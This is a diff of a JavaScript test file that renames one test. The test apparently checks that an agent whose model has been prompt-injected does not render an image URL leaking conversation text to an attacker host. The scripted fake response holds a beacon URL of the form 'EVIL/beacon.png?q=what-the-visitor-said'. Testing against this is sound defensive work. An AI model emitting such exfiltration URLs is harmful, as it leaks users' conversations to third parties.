@@ -67,7 +67,7 @@ describe('a model that was taken in all the same', () => {
     text: 'Look:',
     toolCalls: [{ name: 'send_ui', arguments: JSON.stringify({ items: [{ type: 'image', url, alt: 'x' }] }) }],
   })
-  it('shows no address with the conversation in it, and no number of a source that was not given', async () => {
+  it('[1.15] shows no address with the conversation in it, and no number of a source that was not given', async () => {
     const say = talk(agent)
     server.model.control.script([{ ...shows(`${EVIL}/beacon.png?q=what-the-visitor-said`), purpose: 'answer' }])
     const shown = await say('How much does the juniper hammer weigh?')
